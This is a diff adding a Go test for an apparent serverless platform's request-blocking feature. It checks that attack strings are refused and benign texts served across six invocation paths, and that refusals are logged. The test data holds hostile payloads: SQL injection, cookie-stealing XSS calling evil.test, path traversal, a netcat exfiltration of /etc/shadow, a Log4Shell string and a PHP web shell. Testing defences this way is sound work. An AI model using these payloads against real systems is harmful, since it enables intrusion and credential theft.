@@ -6,6 +6,7 @@ import (
 	"crypto/tls"
 	"crypto/x509"
 	"encoding/base64"
+	"encoding/json"
 	"fmt"
 	"io"
 	"io/fs"
@@ -343,5 +344,156 @@ func TestD4RegressionTests(t *testing.T) {
 	t.Logf("%d of %d as expected (%.2f %%), %d of them refused before the rules were asked", good, len(all), 100*float64(good)/float64(len(all)), earlier)
 	if good*100 < len(all)*97 {
 		t.Errorf("fewer than 97 of a hundred are as expected")
+	}
+}
+
+// said tells which try has come, however it came.
+const said = `
+import base64, json, re
+
+def handler(event, context):
+    text = json.dumps(event)
+    if event.get("isBase64Encoded"):
+        text = base64.b64decode(event["body"]).decode()
+    print("ran", re.search("try-[a-z]+-[0-9]+", text).group(), flush=True)
+    return "served"
+`
+
+// TestD4EveryTriggerOnANode sends the same texts by every way in to a function that
+// blocks. Attacks are refused and benign texts served by each alike, and what was
+// refused has not run.
+func TestD4EveryTriggerOnANode(t *testing.T) {
+	n := newTown(t)
+	ingress := map[string]any{"callers": []string{"front"}, "http": []any{open("/wall", "block", 1)},
+		"event": map[string]any{"inspect": map[string]any{"mode": "block", "level": 1}}}
+	n.MustDeploy("wall", map[string]any{
+		"runtime": string(n.rt), "handler": "app.handler", "interior": map[string]any{"reuse": map[string]any{"maxAge": "1h"}}, "ingress": ingress,
+	}, map[string]string{"app.py": said})
+	n.deploy("front", nil, []string{"wall"})
+	key, _ := n.signingKey("sdk", "wall")
+
+	texts := []struct {
+		text   string
+		attack bool
+	}{
+		{"1' OR '1'='1' UNION SELECT name, password FROM users--", true},
+		{"0; DROP TABLE orders; SELECT pg_sleep(10)--", true},
+		{"<script>alert(document.cookie)</script>", true},
+		{`<img src=x onerror="fetch('//evil.test/'+document.cookie)">`, true},
+		{"../../../../etc/passwd", true},
+		{"x; cat /etc/shadow | nc evil.test 4444", true},
+		{"${jndi:ldap://evil.test/a}", true},
+		{"<?php system($_GET['cmd']); ?>", true},
+		{"Fish & chips for two, please; no vinegar", false},
+		{"Zwölf Boxkämpfer jagen Viktor quer über den Sylter Deich", false},
+		{"Is 3 > 2? That's what O'Brien said: \"yes\"", false},
+		{"https://shop.example.com/orders?page=2&sort=date", false},
+	}
+	const status = "answered "
+	post := func(path, kind, body string) string {
+		r, err := http.NewRequestWithContext(t.Context(), "POST", n.Public()+path, strings.NewReader(body))
+		if err != nil {
+			t.Fatal(err)
+		}
+		if kind != "" {
+			r.Header.Set("Content-Type", kind)
+		}
+		got := n.send(n.HTTP, r)
+		return status + strconv.Itoa(got.status)
+	}
+	document := func(id, text string) string {
+		b, err := json.Marshal(map[string]string{"id": id, "text": text})
+		if err != nil {
+			t.Fatal(err)
+		}
+		return string(b)
+	}
+	form := func(id, text string) string { return url.Values{"id": {id}, "text": {text}}.Encode() }
+	triggers := []struct {
+		name string
+		send func(id, text string) string
+	}{
+		{"json", func(id, text string) string { return post("/wall", "application/json", document(id, text)) }},
+		{"form", func(id, text string) string {
+			return post("/wall", "application/x-www-form-urlencoded", form(id, text))
+		}},
+		{"query", func(id, text string) string { return post("/wall?"+form(id, text), "", "") }},
+		{"control", func(id, text string) string {
+			inv, err := n.Invoke(t.Context(), "wall", "", []byte(document(id, text)))
+			if err != nil {
+				if bawn.ErrorCode(err) != bawn.CodeDenied {
+					return err.Error()
+				}
+				return status + "403"
+			}
+			io.Copy(io.Discard, inv.Body)
+			inv.Body.Close()
+			return status + "200" + inv.FunctionError
+		}},
+		{"lambda", func(id, text string) string {
+			got := n.send(n.HTTP, n.signed(key, fmt.Sprintf(invocations, "wall"), document(id, text), "lambda", time.Now()))
+			return status + strconv.Itoa(got.status)
+		}},
+		{"function", func(id, text string) string {
+			out := ask(t, n.Client, "front", map[string]any{"function": "wall", "payload": map[string]any{"id": id, "text": text}})
+			if len(out) != 1 {
+				return fmt.Sprint(out)
+			}
+			return status + strconv.Itoa(out[0].Status) + out[0].Error
+		}},
+	}
+	ran := map[string]int{}
+	for i, c := range texts {
+		want := status + "200"
+		if c.attack {
+			want = status + "403"
+		}
+		for _, by := range triggers {
+			id := fmt.Sprintf("try-%s-%d", by.name, i)
+			if got := by.send(id, c.text); got != want {
+				t.Errorf("%q by %s: %s, want %s", c.text, by.name, got, want)
+			}
+			if !c.attack {
+				ran[id] = 1
+			}
+		}
+	}
+	have := map[string]int{}
+	n.until("the lines of what was served", func() bool {
+		have = map[string]int{}
+		if err := n.Logs(t.Context(), "wall", client.LogQuery{Limit: 10_000}, func(l bawn.LogLine) error {
+			if id, ok := strings.CutPrefix(l.Text, "ran "); ok && !l.Platform {
+				have[strings.TrimSpace(id)]++
+			}
+			return nil
+		}); err != nil {
+			t.Fatal(err)
+		}
+		return len(have) >= len(ran)
+	})
+	if !maps.Equal(have, ran) {
+		t.Errorf("these ran: %v, want %v", have, ran)
+	}
+	began := n.records(func(r *bawn.Record) bool { return r.Function == "wall" && r.Kind == bawn.KindOutcome })
+	served := 0
+	for _, r := range began {
+		if r.Outcome == "ok" {
+			served++
+		}
+	}
+	if served != len(ran) {
+		t.Errorf("%d outcomes are on record, want %d", served, len(ran))
+	}
+	// The owner reads which rules it was, wherever it came in; in a flood of them
+	// some are only counted.
+	left, seen := 0, 0
+	for _, r := range n.found("wall", time.Time{}) {
+		more, _ := strconv.Atoi(r.Detail["leftOut"])
+		if left, seen = left+more, seen+1; r.Detail["rules"] == "" || !strings.Contains(r.Detail["manifest"], "exclude: [") || r.Outcome != "deny" {
+			t.Errorf("a record of what was found: %+v", r)
+		}
+	}
+	if refused := len(texts)*len(triggers) - len(ran); seen == 0 || seen+left > refused {
+		t.Errorf("%d refusals are on record and %d counted, of %d", seen, left, refused)
 	}
 }
